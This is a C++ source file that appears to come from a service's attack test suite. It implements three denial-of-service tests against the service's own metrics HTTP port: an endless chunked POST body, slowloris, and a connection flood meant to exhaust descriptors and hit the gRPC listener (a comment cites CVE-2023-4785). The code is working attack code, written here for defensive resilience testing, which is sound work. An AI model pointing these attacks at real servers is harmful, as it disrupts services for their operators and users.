// The attacks on the metrics HTTP port: a chunked POST body without end, slowloris,
// and a connection flood (which, once the server's descriptors run out, also hits
// the gRPC listener: CVE-2023-4785 in Debian's gRPC 1.51.1).

#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <string>
#include <thread>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "absl/synchronization/notification.h"
#include "absl/time/clock.h"
#include "tests/attacks/attacks.h"
#include "tests/attacks/grpc_util.h"
#include "tests/attacks/net_util.h"

namespace semaphored::testing {
namespace {

constexpr absl::string_view kScrape =
    "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n";

// The status line of an HTTP answer ("HTTP/1.1 200 OK"), spaces as '_'.
std::string StatusLine(absl::string_view answer) {
  std::string line(answer.substr(0, answer.find("\r\n")));
  std::replace(line.begin(), line.end(), ' ', '_');
  return line.empty() ? "none" : line;
}

}  // namespace

// POST /metrics with Transfer-Encoding: chunked and 1 MiB chunks, up to `bytes`
// (default 768 MiB) or `duration` (default 8 s), or until the server stops reading or
// hangs up.
AttackReport MetricsChunkedPost(const AttackTarget& target, const AttackOptions& options) {
  AttackReport report;
  std::string host;
  int port = 0;
  SplitHostPort(target.metrics_address, &host, &port).IgnoreError();
  absl::StatusOr<int> fd = ConnectTcp(host, port, absl::Seconds(2));
  if (!fd.ok()) {
    report.Add("error", fd.status().ToString());
    return report;
  }
  const absl::Time deadline = absl::Now() + options.duration;
  absl::Status s = SendAll(*fd,
                           "POST /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                           "Transfer-Encoding: chunked\r\nContent-Type: text/plain\r\n\r\n",
                           absl::Seconds(2));
  const std::string chunk = absl::StrFormat("%x\r\n%s\r\n", 1 << 20, std::string(1 << 20, 'p'));
  int64_t body = 0;
  while (s.ok() && body < options.bytes && absl::Now() < deadline) {
    s = SendAll(*fd, chunk, std::min(absl::Seconds(2), deadline - absl::Now()));
    if (s.ok()) body += 1 << 20;
  }
  report.Add("body_bytes_sent", body);
  report.Add("stopped_by", s.ok() ? (body >= options.bytes ? "bytes" : "time")
                                  : absl::StrCat(absl::StatusCodeToString(s.code())));
  absl::StatusOr<std::string> answer = RecvSome(*fd, absl::Seconds(1));
  report.Add("answer", answer.ok() ? StatusLine(*answer) : std::string("none"));
  ::close(*fd);
  return report;
}

// Two connections each send one byte of an endless request every 1.5 s for
// `duration` (default 8 s) while a scraper asks GET /metrics every 250 ms with a 5 s
// limit. Reports the scrapes: count, failures, slowest.
AttackReport MetricsSlowloris(const AttackTarget& target, const AttackOptions& options) {
  AttackReport report;
  std::string host;
  int port = 0;
  SplitHostPort(target.metrics_address, &host, &port).IgnoreError();
  const absl::Time deadline = absl::Now() + options.duration;
  absl::Notification slow_started;
  std::atomic<int64_t> slow_bytes{0}, slow_connections{0};
  std::thread slow([&] {
    std::vector<int> fds;
    for (int64_t i = 0; i < options.concurrency; ++i) {
      absl::StatusOr<int> fd = ConnectTcp(host, port, absl::Seconds(2));
      if (fd.ok()) fds.push_back(*fd);
    }
    slow_connections.store(static_cast<int64_t>(fds.size()));
    const std::string request =
        "GET /metrics HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: " + std::string(4096, 's');
    size_t at = 0;
    bool first = true;
    while (absl::Now() < deadline && at < request.size()) {
      for (int fd : fds) {
        if (SendAll(fd, request.substr(at, 1), absl::Milliseconds(100)).ok()) slow_bytes++;
      }
      ++at;
      if (first) slow_started.Notify();
      first = false;
      absl::SleepFor(std::min(absl::Milliseconds(1500), deadline - absl::Now()));
    }
    if (first) slow_started.Notify();
    for (int fd : fds) ::close(fd);
  });
  slow_started.WaitForNotification();
  // The scraper, after the slow connections have taken their places.
  absl::SleepFor(absl::Milliseconds(200));
  int64_t scrapes = 0, failures = 0;
  absl::Duration slowest = absl::ZeroDuration();
  std::string first_failure;
  while (absl::Now() < deadline) {
    const absl::Time start = absl::Now();
    absl::StatusOr<std::string> answer = HttpExchange(host, port, kScrape, absl::Seconds(5));
    const absl::Duration took = absl::Now() - start;
    ++scrapes;
    slowest = std::max(slowest, took);
    if (!answer.ok() || answer->rfind("HTTP/1.1 200", 0) != 0) {
      ++failures;
      if (first_failure.empty()) {
        first_failure = answer.ok() ? StatusLine(*answer)
                                    : absl::StatusCodeToString(answer.status().code());
      }
    }
    absl::SleepFor(std::max(absl::ZeroDuration(), absl::Milliseconds(250) - took));
  }
  slow.join();
  report.Add("slow_connections", slow_connections.load());
  report.Add("slow_bytes", slow_bytes.load());
  report.Add("scrapes", scrapes);
  report.Add("scrape_failures", failures);
  report.Add("scrape_max_ms", absl::ToInt64Milliseconds(slowest));
  if (!first_failure.empty()) report.Add("first_failure", first_failure);
  return report;
}

// Opens `count` connections (default 1,100) to the metrics port and keeps them, silent,
// for `duration` (default 4 s); meanwhile a new gRPC connection asks the health check
// every 250 ms (which is what meets a listener out of descriptors). Then closes them.
AttackReport MetricsConnectionFlood(const AttackTarget& target,
                                    const AttackOptions& options) {
  AttackReport report;
  std::string host;
  int port = 0;
  SplitHostPort(target.metrics_address, &host, &port).IgnoreError();
  std::vector<int> fds;
  int64_t failed = 0;
  std::string first_error;
  // Until `count`, or until the port stops taking connections (ten failures in a row:
  // its accept queue is full).
  const absl::Time open_deadline = absl::Now() + absl::Seconds(10);
  int failed_in_a_row = 0;
  for (int64_t i = 0; i < options.count && absl::Now() < open_deadline && failed_in_a_row < 10;
       ++i) {
    absl::StatusOr<int> fd = ConnectTcp(host, port, absl::Milliseconds(200));
    if (fd.ok()) {
      fds.push_back(*fd);
      failed_in_a_row = 0;
    } else {
      ++failed;
      ++failed_in_a_row;
      if (first_error.empty()) first_error = absl::StatusCodeToString(fd.status().code());
    }
  }
  report.Add("connections", static_cast<int64_t>(fds.size()));
  report.Add("connect_failures", failed);
  if (!first_error.empty()) report.Add("connect_error", first_error);
  const absl::Time deadline = absl::Now() + options.duration;
  int64_t grpc_ok = 0, grpc_failed = 0;
  while (absl::Now() < deadline) {
    if (HealthCheckNewConnection(target.grpc_address, absl::Seconds(1)).ok()) {
      ++grpc_ok;
    } else {
      ++grpc_failed;
    }
    absl::SleepFor(absl::Milliseconds(250));
  }
  for (int fd : fds) ::close(fd);
  report.Add("grpc_checks_ok_during", grpc_ok);
  report.Add("grpc_checks_failed_during", grpc_failed);
  return report;
}

}  // namespace semaphored::testing
